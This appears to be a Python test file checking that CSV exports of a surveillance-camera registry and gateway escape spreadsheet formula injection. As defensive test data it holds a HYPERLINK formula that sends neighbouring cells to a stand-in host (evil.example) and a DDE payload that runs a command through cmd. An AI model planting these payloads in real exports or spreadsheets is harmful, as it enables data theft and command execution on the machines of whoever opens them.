"""Issue 14 item 10: CSV exports passed `=`, `+`, `-`, `@` cells straight to spreadsheets.

Every export (the gateway's use register, the registry CLI's units, devices and findings)
writes through ``jifang.csv_export``: a text cell beginning with a formula character begins with
a single quote, every text cell is quoted, numbers stay numbers. Replayed with values a client
can plant: an officer's purpose, a camera's name, a place's name that ends up in a finding."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

from jifang.auth import Role
from jifang.migrate import upgrade_async
from services.gateway import ALEMBIC_INI as GATEWAY_ALEMBIC_INI
from services.gateway.app import create_app as create_gateway
from services.registry.cli import app as registry_cli
from tests.conftest import TokenFactory, auth
from tests.services.gateway.conftest import callup, gateway_settings, serve
from tests.services.registry.factories import create_device, create_unit, unique

# What the review planted: a link that sends the neighbouring cells away when clicked, a
# command in the DDE form old spreadsheets run, and a number that a spreadsheet would compute.
EXFILTRATE = '=HYPERLINK("http://evil.example/?"&A2&B2,"点击查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+86-451-1234"


@pytest.fixture
async def register_gateway(
    database_url: str, bootstrap: str, registry_url: str, token: TokenFactory, signing_keys: tuple[str, str]
) -> AsyncIterator[httpx.AsyncClient]:
    await upgrade_async(GATEWAY_ALEMBIC_INI, database_url)
    app = create_gateway(gateway_settings(database_url, bootstrap, registry_url, token, signing_keys))
    async for c in serve(app):
        yield c


async def test_the_register_export_neutralises_formulas(
    register_gateway: httpx.AsyncClient, client: httpx.AsyncClient, token: TokenFactory
) -> None:
    tech = auth(token(Role.TECH_OFFICE))
    unit = await create_unit(client, tech)
    camera = await create_device(
        client, tech, unit["id"], onvif_address="http://192.0.2.20/onvif/device_service"
    )
    operator = auth(token(Role.POLICE_OPERATOR, subject="officer-csv"))
    planted = callup(camera["id"], purpose=EXFILTRATE, case_number=PLUS, destination=DDE)
    r = await register_gateway.post("/api/v1/callups", json=planted, headers=operator)
    assert r.status_code == 201, r.text
    auditor = auth(token(Role.AUDITOR))
    exported = await register_gateway.get(
        "/api/v1/register/export", params={"camera_id": camera["id"], "format": "csv"}, headers=auditor
    )
    assert exported.status_code == 200
    assert exported.headers["x-content-type-options"] == "nosniff"
    assert exported.headers["content-disposition"].startswith('attachment; filename="use-register.csv"')
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert (row["purpose"], row["case_number"], row["destination"]) == (
        "'" + EXFILTRATE,
        "'" + PLUS,
        "'" + DDE,
    )
    # Every text cell quoted; the sequence number a bare number.
    line = exported.text.splitlines()[1]
    assert line.startswith(f'{row["seq"]},"') and f'"\'{EXFILTRATE.replace(chr(34), chr(34) * 2)}"' in line
    # The JSON export holds what was registered, over which the record's hash was computed.
    as_json = await register_gateway.get(
        "/api/v1/register/export", params={"camera_id": camera["id"], "format": "json"}, headers=auditor
    )
    [record] = json.loads(as_json.text)
    assert (record["purpose"], record["case_number"], record["destination"]) == (EXFILTRATE, PLUS, DDE)


def _export(registry_url: str, token: TokenFactory, kind: str, out: Path) -> list[dict[str, str]]:
    env = {"REGISTRY_URL": registry_url, "JIFANG_TOKEN": token(Role.TECH_OFFICE)}
    result = CliRunner().invoke(registry_cli, ["export", kind, "--out", str(out)], env=env)
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


async def test_the_registry_exports_neutralise_formulas(
    client: httpx.AsyncClient, registry_url: str, token: TokenFactory, tmp_path: Path
) -> None:
    tech = auth(token(Role.TECH_OFFICE))
    district = unique("道里区")
    unit = await create_unit(
        client, tech, name=unique("=1+2 银行"), district=district, address="@南岗区 红军街"
    )
    await create_device(
        client, tech, unit["id"], name=EXFILTRATE, serial_number="-12345", latitude=-33.9, longitude=151.2
    )
    place: dict[str, Any] = (
        await client.post(
            f"/api/v1/units/{unit['id']}/places",
            json={"name": DDE, "kind": "site", "category": "hrb-7-4", "location_type": "vault"},
            headers=tech,
        )
    ).json()

    units = await asyncio.to_thread(_export, registry_url, token, "units", tmp_path / "units.csv")
    [exported_unit] = [u for u in units if u["district"] == district]
    assert exported_unit["name"].startswith("'=1+2 银行") and exported_unit["address"] == "'@南岗区 红军街"

    devices = await asyncio.to_thread(_export, registry_url, token, "devices", tmp_path / "devices.csv")
    [device] = [d for d in devices if d["unit_id"] == unit["id"]]
    assert device["name"] == "'" + EXFILTRATE
    assert device["serial_number"] == "'-12345"  # text, though it reads like a number
    assert device["latitude"] == "-33.9"  # a number column: a negative number, as it is
    raw = (tmp_path / "devices.csv").read_text(encoding="utf-8")
    assert ",-33.9," in raw  # unquoted: a spreadsheet reads it as a number

    findings = await asyncio.to_thread(_export, registry_url, token, "findings", tmp_path / "findings.csv")
    [missing] = [f for f in findings if f["subject_id"] == place["id"]]
    assert missing["detail"].startswith("'" + DDE)
    assert (
        missing["articles"] == "HRB-2008 art. 7(4); HRB-2008 art. 26"
    )  # a list: one cell, its items separated by "; "
